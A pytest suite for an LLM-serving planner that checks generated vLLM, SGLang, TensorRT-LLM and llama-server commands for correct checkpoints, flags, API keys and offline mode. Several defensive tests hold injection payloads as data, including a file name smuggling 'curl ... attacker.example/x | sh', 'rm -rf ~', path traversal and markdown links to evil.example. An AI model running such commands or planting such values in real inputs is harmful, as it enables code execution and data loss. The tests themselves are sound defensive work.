"""Serve commands that start: the checkpoint the format needs and only flags the engine documents."""

from __future__ import annotations

import shlex

import pytest

from llmplan.planner import parse_scenario
from llmplan.planner.report import run
from llmplan.planner.serve_config import serve_command
from llmplan.specs import FitRequest, resolve

# flags each engine's CLI documents (vllm serve --help; sglang server_arguments.md; trtllm-serve docs;
# llama.cpp tools/server/README.md)
FLAGS = {
    "vllm": {"--tensor-parallel-size", "--pipeline-parallel-size", "--max-model-len", "--quantization", "--dtype",
             "--enable-expert-parallel", "--gpu-memory-utilization", "--max-num-seqs", "--kv-cache-dtype",
             "--reasoning-parser", "--api-key", "--default-chat-template-kwargs"},
    "sglang": {"--model-path", "--tp", "--pp-size", "--enable-dp-attention", "--dp-size", "--context-length",
               "--quantization", "--mem-fraction-static",
               "--max-running-requests", "--kv-cache-dtype", "--host", "--api-key", "--reasoning-parser"},
    "trtllm-serve": {"--backend", "--tp_size", "--pp_size", "--max_seq_len", "--kv_cache_free_gpu_memory_fraction",
                     "--max_batch_size", "--host"},
    "llama-server": {"-m", "--ctx-size", "--parallel", "--n-gpu-layers", "--split-mode", "--cache-type-k",
                     "--cache-type-v", "--flash-attn", "--host", "--api-key", "--jinja", "--reasoning-budget"},
}


def cmd_of(cat, model, gpu, precision, engine="vllm", tp=1, kv=None, ctx=8192, seqs=64):
    d = resolve(FitRequest(model=model, gpu=gpu, precision=precision, engine=engine, tp=tp, kv_precision=kv), cat)
    return serve_command(d, ctx, seqs)


def words(cmd: str) -> list[str]:
    return shlex.split(cmd.split("  # ")[0])


def check_flags(cmd: str) -> None:
    w = words(cmd)
    w = [x for x in w if not x.startswith(("QUANT_CONFIG=", "HF_HUB_OFFLINE="))]
    prog = w[0] if w[0] != "python" else "sglang"
    w = w[3:] if prog == "sglang" else w  # python -m sglang.launch_server
    allowed = FLAGS["vllm" if prog == "vllm" else prog]
    used = {x for x in w if x.startswith("-")}
    assert used <= allowed, (cmd, used - allowed)


CASES = [
    # model, gpu, precision, engine, tp, expected model argument, on-the-fly quantization flag expected
    ("meta-llama/Llama-3.1-8B-Instruct", "h100-sxm", "bf16", "vllm", 1, "meta-llama/Llama-3.1-8B-Instruct", False),
    ("meta-llama/Llama-3.1-8B", "h100-sxm", "bf16", "vllm", 1, "meta-llama/Llama-3.1-8B", False),
    (
        "meta-llama/Llama-3.1-8B-Instruct",
        "h100-sxm",
        "fp8",
        "vllm",
        1,
        "neuralmagic/Meta-Llama-3.1-8B-Instruct-FP8",
        False,
    ),
    (
        "meta-llama/Llama-3.1-8B-Instruct",
        "h100-sxm",
        "int8",
        "vllm",
        1,
        "neuralmagic/Meta-Llama-3.1-8B-Instruct-quantized.w8a8",
        False,
    ),
    (
        "meta-llama/Llama-3.1-8B-Instruct",
        "l40s",
        "int4-awq",
        "vllm",
        1,
        "hugging-quants/Meta-Llama-3.1-8B-Instruct-AWQ-INT4",
        False,
    ),
    (
        "meta-llama/Llama-3.1-8B-Instruct",
        "l40s",
        "int4-gptq",
        "vllm",
        1,
        "RedHatAI/Meta-Llama-3.1-8B-Instruct-quantized.w4a16",
        False,
    ),
    ("Qwen/Qwen2.5-72B-Instruct", "h100-sxm", "fp8", "vllm", 4, "Qwen/Qwen2.5-72B-Instruct", True),
    ("Qwen/Qwen2.5-72B-Instruct", "h100-sxm", "int4-awq", "vllm", 2, "Qwen/Qwen2.5-72B-Instruct-AWQ", False),
    ("openai/gpt-oss-120b", "h100-sxm", "mxfp4", "vllm", 1, "openai/gpt-oss-120b", False),
    ("openai/gpt-oss-120b", "b200", "mxfp4", "vllm", 2, "openai/gpt-oss-120b", False),
    ("deepseek-ai/DeepSeek-R1", "h200-sxm", "fp8", "vllm", 8, "deepseek-ai/DeepSeek-R1", False),
    (
        "meta-llama/Llama-3.3-70B-Instruct",
        "h100-sxm",
        "fp8",
        "sglang",
        4,
        "neuralmagic/Llama-3.3-70B-Instruct-FP8-dynamic",
        False,
    ),
    ("Qwen/Qwen2.5-32B-Instruct", "h100-sxm", "fp8", "sglang", 2, "Qwen/Qwen2.5-32B-Instruct", True),
    ("meta-llama/Llama-3.3-70B-Instruct", "h100-sxm", "fp8", "trtllm", 4, "nvidia/Llama-3.3-70B-Instruct-FP8", False),
    ("meta-llama/Llama-3.3-70B-Instruct", "h100-sxm", "bf16", "trtllm", 4, "meta-llama/Llama-3.3-70B-Instruct", False),
    ("Qwen/Qwen3-8B", "rtx-4090", "q4_k_m", "llamacpp", 1, "Qwen3-8B-Q4_K_M.gguf", False),
    (
        "meta-llama/Llama-3.1-8B-Instruct",
        "rtx-4090",
        "q5_k_m",
        "llamacpp",
        1,
        "Meta-Llama-3.1-8B-Instruct-Q5_K_M.gguf",
        False,
    ),
    ("openai/gpt-oss-20b", "rtx-4090", "mxfp4-gguf", "llamacpp", 1, "gpt-oss-20b-mxfp4.gguf", False),
]


@pytest.mark.parametrize("model, gpu, precision, engine, tp, arg, on_load", CASES,
                         ids=[f"{c[3]}-{c[0].split('/')[-1]}-{c[2]}" for c in CASES])
def test_checkpoint_and_flags_per_engine_and_format(cat, model, gpu, precision, engine, tp, arg, on_load):
    cmd = cmd_of(cat, model, gpu, precision, engine, tp)
    w = words(cmd)
    model_arg = w[w.index("--model-path") + 1] if "--model-path" in w else w[2] if w[0] == "vllm" else \
        w[w.index("-m") + 1] if w[0] == "llama-server" else w[1]
    assert model_arg == arg, cmd
    check_flags(cmd)
    assert ("--quantization" in w) == on_load, cmd
    if "--quantization" in w:  # only to quantize a 16-bit checkpoint on load
        assert cat.model(model).native_precision in ("bf16", "fp16") and model_arg == cat.model(model).id
        assert w[w.index("--quantization") + 1] == precision == "fp8"


def test_no_quantization_flag_on_a_prequantized_or_mxfp4_checkpoint(cat):
    """Over every catalog checkpoint and every engine that loads its format."""
    n = 0
    for m in cat.models:
        for c in m.checkpoints:
            fmt = cat.quant_format(c.precision)
            for eng in ("vllm", "sglang", "trtllm"):
                if fmt.id not in cat.engine(eng).formats or fmt.kind == "gguf":
                    continue
                try:
                    d = resolve(FitRequest(model=m.id, gpu="b200", precision=fmt.id, engine=eng, tp=8), cat)
                except Exception:  # noqa: BLE001 (layouts a model cannot take are not this test's subject)
                    continue
                cmd = serve_command(d, 4096, 8)
                w = words(cmd)
                if "cannot load at this layout" in cmd:  # block-quantized and not splittable: the 16-bit one
                    assert m.id in w and c.weight_block_size is not None, (m.id, c.id, eng)
                    continue
                assert "--quantization" not in w, (m.id, c.id, eng)
                n += 1
    assert n > 40


def test_no_public_checkpoint_says_how_to_make_one(cat):
    cmd = cmd_of(cat, "meta-llama/Llama-3.3-70B-Instruct", "h100-sxm", "int4-awq", "vllm", 2)
    assert words(cmd)[2] == "./Llama-3.3-70B-Instruct-int4-awq"
    assert "no public int4-awq checkpoint of meta-llama/Llama-3.3-70B-Instruct" in cmd and "AutoAWQ" in cmd
    cmd = cmd_of(cat, "meta-llama/Llama-3.3-70B-Instruct", "h100-sxm", "fp8", "trtllm", 4)
    assert "--quantization" not in cmd  # trtllm-serve does not quantize on load
    # TensorRT-LLM reserves each request's max_tokens at admission: the line says what the sizing assumes
    assert "reserves KV for each request's max_tokens" in cmd
    assert "max_tokens" not in cmd_of(cat, "meta-llama/Llama-3.3-70B-Instruct", "h100-sxm", "fp8", "vllm", 4)
    cmd = cmd_of(cat, "Qwen/Qwen2.5-32B-Instruct", "h100-sxm", "fp8", "trtllm", 2)
    assert "quantize it yourself" in cmd and "Model Optimizer" in cmd


def test_kv_cache_and_gaudi_fp8_flags(cat):
    cmd = cmd_of(cat, "meta-llama/Llama-3.1-8B-Instruct", "h100-sxm", "bf16", "vllm", kv="fp8")
    assert "--kv-cache-dtype fp8" in cmd
    cmd = cmd_of(cat, "meta-llama/Llama-3.1-8B-Instruct", "h100-sxm", "bf16", "sglang", kv="fp8")
    assert "--kv-cache-dtype fp8_e4m3" in cmd  # SGLang's name for it
    check_flags(cmd)
    cmd = cmd_of(cat, "meta-llama/Llama-3.3-70B-Instruct", "gaudi3", "fp8", "gaudi", 4)
    assert cmd.startswith("QUANT_CONFIG=") and "--quantization inc --kv-cache-dtype fp8_inc" in cmd
    assert "vllm serve meta-llama/Llama-3.3-70B-Instruct " in cmd and "calibrate" in cmd
    cmd = cmd_of(cat, "meta-llama/Llama-3.3-70B-Instruct", "h100-sxm", "fp8", "nim", 4)
    assert cmd.startswith("docker run") and "NIM_MODEL_PATH=hf://nvidia/Llama-3.3-70B-Instruct-FP8" in cmd


PLAN = {"workload": {"requests_per_day": 20000, "profile": "flat", "input_tokens": 1000, "output_tokens": 200,
                     "slo": {"ttft_p95_ms": 3000, "tpot_p95_ms": 100}},
        "alternatives": [], "policy": {"deployment": ["on_prem"]}}


def test_plan_serves_the_model_id_the_scenario_asked_for(cat):
    r = run(parse_scenario({**PLAN, "models": ["meta-llama/Llama-3.1-8B-Instruct"], "hardware": ["h100-sxm"]}), cat)
    for o in r["_search"]["ranked"]:
        w = words(o.serve_command)
        assert o.model == "meta-llama/Llama-3.1-8B-Instruct"
        assert w[2] != "meta-llama/Llama-3.1-8B" and "Instruct" in w[2], o.serve_command


def test_plan_serves_gpt_oss_in_its_native_mxfp4(cat):
    doc = {**PLAN, "models": ["openai/gpt-oss-120b"], "hardware": ["h100-sxm", "h200-sxm"]}
    doc["workload"] = {**doc["workload"], "thinking_tokens": 300}  # gpt-oss always reasons first
    r = run(parse_scenario(doc), cat)
    rec = r["recommendation"]
    assert rec["precision"] == "mxfp4", rec["id"]
    assert rec["serve_command"].startswith("vllm serve openai/gpt-oss-120b ")
    assert "--quantization" not in rec["serve_command"]
    assert not any(o.precision == "fp8" for o in r["_search"]["ranked"])


def test_a_catalog_text_cannot_smuggle_a_second_command_into_the_serve_line():
    """Attacker review: a checkpoint file name with a line break, carried into the comment after `#`,
    ran as its own command. File names follow a grammar, and the comment holds no line break."""
    import shlex
    import subprocess

    from pydantic import ValidationError

    from llmplan.catalog.schema import Checkpoint
    from llmplan.planner.serve_config import shell_comment

    for bad in ("x-{QUANT}.gguf\ncurl -s http://attacker.example/x | sh\n#", "../../etc/x.gguf", "a b.gguf"):
        with pytest.raises(ValidationError):
            Checkpoint(id="acme/acme-8b-GGUF", precision="q4_k_m", file=bad)
    with pytest.raises(ValidationError):
        Checkpoint(id="acme/x\necho pwned", precision="q4_k_m")
    note = "see x\necho INJECTED\r\u2028\u202e# done"
    line = f"{shlex.join(['true', 'a b'])}  # {shell_comment(note)}"
    out = subprocess.run(["bash", "-c", line], capture_output=True, text=True)
    assert out.returncode == 0 and "INJECTED" not in out.stdout


def test_llama_server_ctx_size_is_the_kv_cache_of_all_slots():
    """llama-server splits --ctx-size over its --parallel slots (tools/server/README.md): the total must fit
    the KV cache the memory model leaves. 4 slots of 40,960 tokens (163,840) do not fit 68,864 tokens: each
    slot gets 68,864 // 4 // 256 × 256 = 17,152 tokens, and the note says how to keep the whole context."""
    from llmplan.catalog import load_catalog

    d = resolve(FitRequest(model="Qwen/Qwen3-30B-A3B", gpu="rx-7900-xtx", precision="q4_k_m", engine="llamacpp"),
                load_catalog())
    cmd = serve_command(d, 40960, 4, kv_capacity_tokens=68864)
    w = words(cmd)
    assert w[w.index("--ctx-size") + 1] == str(4 * 17152) and w[w.index("--parallel") + 1] == "4"
    assert "--parallel 1 --ctx-size 40960" in cmd.split("  # ")[1]
    roomy = words(serve_command(d, 40960, 4, kv_capacity_tokens=200_000))
    assert roomy[roomy.index("--ctx-size") + 1] == str(4 * 40960)


@pytest.mark.parametrize("engine,precision,listens", [
    ("sglang", "bf16", True), ("trtllm", "bf16", True), ("llamacpp", "q4_k_m", True), ("vllm", "bf16", False)])
def test_servers_that_bind_only_this_machine_are_told_to_listen(cat, engine, precision, listens):
    """SGLang, trtllm-serve and llama-server bind 127.0.0.1/localhost by default (their docs): a load balancer on
    another machine could not reach the replicas. vLLM already listens on every interface."""
    w = words(cmd_of(cat, "meta-llama/Llama-3.1-8B-Instruct", "h100-sxm", precision, engine))
    assert (w[w.index("--host") + 1] == "0.0.0.0") if listens else "--host" not in w


def test_air_gapped_commands_never_reach_the_hub(cat):
    d = resolve(FitRequest(model="meta-llama/Llama-3.1-8B-Instruct", gpu="h100-sxm", engine="sglang"), cat)
    cmd = serve_command(d, 8192, 64, air_gapped=True)
    assert cmd.startswith("HF_HUB_OFFLINE=1 python -m sglang.launch_server") and "copy the checkpoint" in cmd
    assert "HF_HUB_OFFLINE" not in serve_command(d, 8192, 64)
    check_flags(cmd)
    gguf = resolve(FitRequest(model="meta-llama/Llama-3.1-8B-Instruct", gpu="h100-sxm", engine="llamacpp",
                              precision="q4_k_m"), cat)
    assert "copy the GGUF file in" in serve_command(gguf, 8192, 4, air_gapped=True)


def test_only_an_air_gapped_policy_serves_offline(cat):
    """HF_HUB_OFFLINE goes on the serve line where the policy requires an air gap (air_gapped listed, a preset's
    modes included: planner/policy.py reads it as a requirement); the default policy, which allows every other
    mode, and a plain on-premise one serve as usual."""
    base = {**PLAN, "models": ["meta-llama/Llama-3.1-8B-Instruct"], "hardware": ["h100-sxm"]}

    def line(policy):
        doc = {**base, "policy": policy} if policy is not None else {k: v for k, v in base.items() if k != "policy"}
        return run(parse_scenario(doc), cat)["recommendation"]["serve_command"]

    assert line({"deployment": ["air_gapped"]}).startswith("HF_HUB_OFFLINE=1 ")
    assert line({"preset": "air-gapped-defence"}).startswith("HF_HUB_OFFLINE=1 ")
    assert line({"deployment": ["on_prem", "air_gapped"]}).startswith("HF_HUB_OFFLINE=1 ")
    assert "HF_HUB_OFFLINE" not in line({"deployment": ["on_prem"]})
    assert "HF_HUB_OFFLINE" not in line(None)


def test_several_replicas_in_a_server_are_pinned_and_vllm_keeps_quiet_offline(cat):
    d = resolve(FitRequest(model="meta-llama/Llama-3.1-8B-Instruct", gpu="mi300x", tp=2), cat)
    cmd = serve_command(d, 8192, 64, replicas_per_server=4)
    assert "one process per replica, 4 per server" in cmd and "HIP_VISIBLE_DEVICES=0,1 for the first, 2,3" in cmd
    assert "per replica" not in serve_command(d, 8192, 64)
    assert serve_command(d, 8192, 64, air_gapped=True).startswith("HF_HUB_OFFLINE=1 VLLM_NO_USAGE_STATS=1 vllm ")


def test_vllm_on_gaudi_resolves_to_its_plugin_and_llama_cpp_has_no_gaudi_backend(cat):
    from llmplan.errors import LlmplanError

    d = resolve(FitRequest(model="meta-llama/Llama-3.1-8B-Instruct", gpu="gaudi3", engine="vllm"), cat)
    assert d.engine.id == "gaudi" and serve_command(d, 8192, 64).startswith("vllm serve ")
    with pytest.raises(LlmplanError, match="llamacpp does not run on gaudi3"):
        resolve(FitRequest(model="meta-llama/Llama-3.1-8B-Instruct", gpu="gaudi3", engine="llamacpp",
                           precision="q4_k_m"), cat)


@pytest.mark.parametrize("engine,model,precision,parser", [
    ("vllm", "deepseek-ai/DeepSeek-R1-Distill-Qwen-7B", "bf16", "deepseek_r1"),
    ("vllm", "Qwen/Qwen3-8B", "bf16", "qwen3"),
    ("sglang", "deepseek-ai/DeepSeek-R1-Distill-Qwen-7B", "bf16", "deepseek-r1"),
    ("sglang", "Qwen/Qwen3-8B", "bf16", "qwen3"),
    ("sglang", "zai-org/GLM-4.5-Air", "fp8", "glm45"),
    ("sglang", "openai/gpt-oss-20b", "mxfp4", "gpt-oss"),
])
def test_a_thinking_model_gets_its_reasoning_parser(cat, engine, model, precision, parser):
    """vLLM and SGLang return a reasoning model's trace apart from its answer only with the model series'
    parser, each in its own names (docs.vllm.ai features/reasoning_outputs: deepseek_r1; docs.sglang.io
    separate_reasoning: deepseek-r1); a model that answers directly gets none."""
    cmd = cmd_of(cat, model, "h200-sxm", precision, engine)
    w = words(cmd)
    assert w[w.index("--reasoning-parser") + 1] == parser
    check_flags(cmd)
    assert "--reasoning-parser" not in cmd_of(cat, "meta-llama/Llama-3.1-8B-Instruct", "h100-sxm", "bf16", engine)


def test_every_thinking_model_names_its_sglang_parser(cat):
    """Each model that thinks (always or switchable) says SGLang's parser, a name SGLang documents (its
    separate_reasoning page, the GLM-4.5 and MiniMax-M2 guides); the vLLM names stay vLLM's. A plain name, the
    form older stored overrides have, is read as vLLM's; another engine or a name with markup is refused."""
    from pydantic import ValidationError

    from llmplan.catalog.schema import Model

    documented = {"deepseek-r1", "qwen3", "qwen3-thinking", "glm45", "minimax-append-think", "gpt-oss"}
    thinking = [m for m in cat.models if m.reasoning]
    assert len(thinking) >= 20
    for m in thinking:
        assert m.reasoning_parser and m.reasoning_parser.sglang in documented, m.id
        assert "-" not in (m.reasoning_parser.vllm or ""), m.id
    base = cat.model("Qwen/Qwen3-8B").model_dump()
    old = Model(**{**base, "reasoning_parser": "qwen3"}).reasoning_parser
    assert old and old.vllm == "qwen3" and old.sglang is None and old.for_engine("sglang") is None
    for bad in ({"trtllm": "qwen3"}, {"sglang": "qwen3 --api-key x"}):
        with pytest.raises(ValidationError):
            Model(**{**base, "reasoning_parser": bad})


def test_a_serve_line_stays_one_code_span_in_the_reports(cat):
    """Attacker review: a backtick in catalog text (a stored override's reasoning_off or reasoning_parser)
    closed the serve line's code span, so report.md/report.html carried a link and a remote image. The span's
    fence outgrows any backtick run and line breaks or bidi characters show as escapes; the catalog refuses
    control characters in that text and a parser name outside [A-Za-z0-9_.-]."""
    from pydantic import ValidationError

    from llmplan.catalog.schema import Model
    from llmplan.planner.report import code_span, md_html

    cmd = "vllm serve x  # clients turn it off per request` [link](http://evil.example/x) ![i](http://e.x/i.png) `"
    html = md_html(f"- serve: {code_span(cmd + chr(10) + 'rm -rf ~' + chr(0x202e))}")
    assert "<a " not in html and "<img" not in html and "\\u000a" in html and "\\u202e" in html
    assert html.count("<code>") == 1
    base = cat.model("Qwen/Qwen3-8B").model_dump()
    for field, bad in (("reasoning_parser", "qwen3` [x](http://e.x)"), ("reasoning_off", "per request\n[x](http://e)"),
                       ("reasoning_off", "off \u202e"), ("license_excludes", ["EU\n"])):
        with pytest.raises(ValidationError):
            Model(**{**base, field: bad})


KEYED = [("vllm", "bf16", "vllm"), ("sglang", "bf16", "python"), ("llamacpp", "q4_k_m", "llama-server")]


@pytest.mark.parametrize("engine,precision,program", KEYED)
def test_a_server_on_every_interface_requires_the_operators_key(cat, engine, precision, program):
    """A serve line listens on every interface (the load balancer must reach it), so it must not serve an open
    OpenAI-compatible API: it passes the engine's --api-key the secret in LLM_API_KEY, and the shell refuses to
    start it when that is unset or empty. Run with the program stubbed out: the key reaches it whole."""
    import subprocess

    from llmplan.planner.serve_config import API_KEY_ENV

    cmd = cmd_of(cat, "meta-llama/Llama-3.1-8B-Instruct", "h100-sxm", precision, engine)
    w = words(cmd)
    assert w[w.index("--api-key") + 1].startswith("${" + API_KEY_ENV + ":?"), cmd
    assert f"{API_KEY_ENV}: the key clients send as a Bearer token" in cmd.split("  # ")[1]
    stub = f"{program}() {{ printf '%s\\n' \"$@\"; }}; "
    env = {"PATH": "/usr/bin:/bin"}
    out = subprocess.run(["bash", "-c", stub + cmd], capture_output=True, text=True, env=env)
    assert out.returncode != 0 and API_KEY_ENV in out.stderr and "--api-key" not in out.stdout
    out = subprocess.run(["bash", "-c", stub + cmd], capture_output=True, text=True, env=env | {API_KEY_ENV: ""})
    assert out.returncode != 0 and "--api-key" not in out.stdout
    key = "s3cret key; $(touch /tmp/x) `id`"
    out = subprocess.run(["bash", "-c", stub + cmd], capture_output=True, text=True, env=env | {API_KEY_ENV: key})
    args = out.stdout.splitlines()
    assert out.returncode == 0 and args[args.index("--api-key") + 1] == key


@pytest.mark.parametrize("engine", ["trtllm", "nim"])
def test_a_server_with_no_key_option_is_told_to_stay_behind_a_proxy(cat, engine):
    """trtllm-serve has no API-key option (its serve command's options) and none was found for NIM: the comment
    says to keep it on a private network behind an authenticating proxy instead of inventing a flag."""
    cmd = cmd_of(cat, "meta-llama/Llama-3.1-8B-Instruct", "h100-sxm", "bf16", engine)
    assert "--api-key" not in words(cmd) and "LLM_API_KEY" not in cmd
    assert "serves without an API key: keep it on a private network behind an authenticating proxy" in cmd
    assert cat.engine(engine).api_key_flag is None and "API key" in (cat.engine(engine).notes or "")


def test_vllm_says_what_its_key_leaves_open(cat):
    """vLLM checks --api-key only under /v1, /v2 and /inference (cli_args.py; /invocations stays open): the
    comment says so, and to keep the port private as well. The catalog refuses a flag or a note that could break
    the line."""
    from pydantic import ValidationError

    from llmplan.catalog.schema import Engine

    cmd = cmd_of(cat, "meta-llama/Llama-3.1-8B-Instruct", "h100-sxm", "bf16")
    assert "/invocations" in cmd.split("  # ")[1] and "keep the port on the private network too" in cmd
    base = cat.engine("vllm").model_dump()
    for field, bad in (("api_key_flag", "--api-key x"), ("api_key_flag", "-k"), ("api_key_note", "open\nrm -rf ~")):
        with pytest.raises(ValidationError):
            Engine(**{**base, field: bad})


def _run_stubbed(cmd: str, program: str) -> list[str]:
    """The arguments `cmd` hands its program, run by bash with the program replaced by a function that prints
    them one per line (and LLM_API_KEY set, which the line requires)."""
    import subprocess

    stub = f"{program}() {{ printf '%s\\n' \"$@\"; }}; "
    out = subprocess.run(["bash", "-c", stub + cmd], capture_output=True, text=True,
                         env={"PATH": "/usr/bin:/bin", "LLM_API_KEY": "k"})
    assert out.returncode == 0, out.stderr
    return out.stdout.splitlines()


def test_vllm_turns_thinking_off_server_side_with_the_models_template_kwargs(cat):
    """A plan sized with thinking off: vLLM's --default-chat-template-kwargs gives every request the model's
    kwargs (Qwen3 and GLM-4.5: enable_thinking false, their model cards / zai-org/GLM-4.5 api_request.py), one
    shell word of valid JSON; the comment says the server does it, and no longer asks clients to."""
    import json

    for model, precision in (("Qwen/Qwen3-8B", "bf16"), ("zai-org/GLM-4.5-Air", "fp8")):
        d = resolve(FitRequest(model=model, gpu="h200-sxm", precision=precision), cat)
        cmd = serve_command(d, 8192, 64, thinking_off=True)
        args = _run_stubbed(cmd, "vllm")
        assert json.loads(args[args.index("--default-chat-template-kwargs") + 1]) == {"enable_thinking": False}
        assert "the server turns it off by default" in cmd and "clients turn it off" not in cmd
        check_flags(cmd)
        assert "--default-chat-template-kwargs" not in serve_command(d, 8192, 64)  # thinking on: as it was


def test_llama_server_turns_thinking_off_and_engines_without_a_switch_keep_the_client_note(cat):
    """llama-server: --reasoning-budget 0 ('0 to disable thinking'), which acts through the model's Jinja template
    (--jinja, off by default in the README read); SGLang (its --default-chat-template-kwargs not pinned to the
    release described) and trtllm-serve keep the note of what clients send; a model that always thinks gets
    nothing."""
    d = resolve(FitRequest(model="Qwen/Qwen3-8B", gpu="rtx-4090", precision="q4_k_m", engine="llamacpp"), cat)
    cmd = serve_command(d, 4096, 4, thinking_off=True)
    args = _run_stubbed(cmd, "llama-server")
    assert "--jinja" in args and args[args.index("--reasoning-budget") + 1] == "0"
    check_flags(cmd)
    for engine in ("sglang", "trtllm"):
        cmd = cmd_of(cat, "Qwen/Qwen3-8B", "h100-sxm", "bf16", engine)
        d = resolve(FitRequest(model="Qwen/Qwen3-8B", gpu="h100-sxm", precision="bf16", engine=engine), cat)
        off = serve_command(d, 8192, 64, thinking_off=True)
        assert off.split("  # ")[0] == cmd.split("  # ")[0]
        assert 'clients turn it off per request: chat_template_kwargs {"enable_thinking": false}' in off
    d = resolve(FitRequest(model="deepseek-ai/DeepSeek-R1-Distill-Qwen-7B", gpu="h100-sxm"), cat)
    assert serve_command(d, 8192, 64, thinking_off=True) == serve_command(d, 8192, 64)


def test_template_kwargs_from_a_stored_override_stay_one_shell_word(cat):
    """Attacker review's rule for catalog text on a serve line: an override's kwargs with shell syntax in a value
    reach vLLM as one JSON argument and run nothing; a name that is no identifier, a nested value, a control
    character or kwargs on a model that cannot switch are refused."""
    import dataclasses
    import json
    from pathlib import Path

    from pydantic import ValidationError

    from llmplan.catalog.schema import Model

    base = cat.model("Qwen/Qwen3-8B").model_dump()
    hostile = {"enable_thinking": False, "note": "'; touch /tmp/llmplan-pwned; echo '$(id)`id`"}
    m = Model(**{**base, "thinking_off_kwargs": hostile})
    d = dataclasses.replace(resolve(FitRequest(model="Qwen/Qwen3-8B", gpu="h100-sxm"), cat), model=m)
    args = _run_stubbed(serve_command(d, 8192, 64, thinking_off=True), "vllm")
    assert json.loads(args[args.index("--default-chat-template-kwargs") + 1]) == hostile
    assert not Path("/tmp/llmplan-pwned").exists()
    text = Model(**{**base, "thinking_off_kwargs": '{"enable_thinking":false}'}).thinking_off_kwargs
    assert text == '{"enable_thinking": false}'  # JSON text is read too, and written back canonical
    for bad in ({"enable thinking": False}, {"x": {"y": 1}}, {"x": "a\nb"}, {}, "[1]", "{"):
        with pytest.raises(ValidationError):
            Model(**{**base, "thinking_off_kwargs": bad})
    r1 = cat.model("deepseek-ai/DeepSeek-R1-Distill-Qwen-7B").model_dump()
    with pytest.raises(ValidationError, match="switchable"):
        Model(**{**r1, "thinking_off_kwargs": {"enable_thinking": False}})


def test_a_block_quantized_checkpoint_that_tp_cannot_split_is_quantized_on_load(cat):
    """Qwen3-235B-A22B-FP8 is quantized in 128-wide blocks (its model card: 'fine-grained fp8 quantization with
    block size of 128'); its experts are 1,536 wide. SGLang splits experts over the TP group: at TP 8 each GPU
    would hold 192 columns, not a whole number of blocks, and the load fails (vLLM #17569 gives the error). The
    line then quantizes the 16-bit checkpoint on load (the same FP8 weights, per channel). TP 4 (384 = 3 blocks)
    keeps the FP8 repository, and vLLM's line runs the experts whole (--enable-expert-parallel) at TP 8."""
    tp8 = cmd_of(cat, "Qwen/Qwen3-235B-A22B", "mi300x", "fp8", engine="sglang", tp=8)
    w = words(tp8)
    assert w[w.index("--model-path") + 1] == "Qwen/Qwen3-235B-A22B" and w[w.index("--quantization") + 1] == "fp8"
    assert "1,536 gives 192 per GPU at TP 8" in tp8
    check_flags(tp8)
    tp4 = words(cmd_of(cat, "Qwen/Qwen3-235B-A22B", "h200-sxm", "fp8", engine="sglang", tp=4))
    assert tp4[tp4.index("--model-path") + 1] == "Qwen/Qwen3-235B-A22B-FP8" and "--quantization" not in tp4
    v8 = words(cmd_of(cat, "Qwen/Qwen3-235B-A22B", "h200-sxm", "fp8", engine="vllm", tp=8))
    assert v8[2] == "Qwen/Qwen3-235B-A22B-FP8" and "--enable-expert-parallel" in v8
    # a dense model: the MLP width (Qwen3-4B: 9,728 = 76 blocks) splits over TP 4 (19 each), not over TP 8
    assert words(cmd_of(cat, "Qwen/Qwen3-4B", "h100-sxm", "fp8", tp=4))[2] == "Qwen/Qwen3-4B-FP8"
    assert words(cmd_of(cat, "Qwen/Qwen3-4B", "h100-sxm", "fp8", tp=8))[2] == "Qwen/Qwen3-4B"
    from pydantic import ValidationError

    from llmplan.catalog.schema import Checkpoint

    with pytest.raises(ValidationError):  # a stored override's empty block would divide by zero
        Checkpoint(id="x/y", precision="fp8", weight_block_size=(0, 0))


def test_only_some_engines_turn_thinking_off_server_side(cat):
    from llmplan.planner.serve_config import thinking_off_server_side

    qwen3 = cat.models.get("Qwen/Qwen3-235B-A22B")
    assert thinking_off_server_side(cat.engines.get("vllm"), qwen3)
    assert thinking_off_server_side(cat.engines.get("llamacpp"), qwen3)
    assert not thinking_off_server_side(cat.engines.get("sglang"), qwen3)


def test_report_md_shows_the_serve_line_as_it_runs(cat):
    """report.md writes `&` and `<` as entities so that no typed text becomes HTML, but Markdown shows a code
    span literally, entities too: the serve line (one code span) keeps its characters, so the command a reader
    copies from the rendered file is the one in plan.json; elsewhere `<` is still an entity."""
    from llmplan.planner.report import markdown, md_html

    doc = {"name": "a <b> & c", "models": ["meta-llama/Llama-3.1-8B-Instruct"], "hardware": ["h100-sxm"],
           "engines": ["nim"], "workload": {"preset": "chat", "requests_per_day": 2000},
           "policy": {"deployment": ["on_prem"]}, "alternatives": []}
    r = run(parse_scenario(doc), cat)
    md = markdown(r)
    serve = next(x for x in md.splitlines() if x.startswith("- serve: "))
    cmd = r["recommendation"]["serve_command"]
    assert "<NIM LLM image>" in cmd  # the NIM line names the image to run
    assert cmd in serve and "&lt;" not in serve and "&amp;" not in serve
    assert "a &lt;b&gt;" in md or "a &lt;b>" in md  # the typed name is still escaped
    assert "<b>" not in md_html(md)


def test_sglang_line_turns_on_the_dp_attention_it_was_sized_with(cat):
    d = resolve(FitRequest(model="deepseek-ai/DeepSeek-V3", gpu="h200", tp=8, precision="fp8", engine="sglang",
                           dp_attention=True), cat)
    cmd = serve_command(d, 8192, 256)
    check_flags(cmd)
    w = words(cmd)
    assert w[w.index("--dp-size") + 1] == "8" and "--enable-dp-attention" in w
    assert "--enable-dp-attention" not in words(cmd_of(cat, "deepseek-ai/DeepSeek-V3", "h200", "fp8", "sglang", 8))
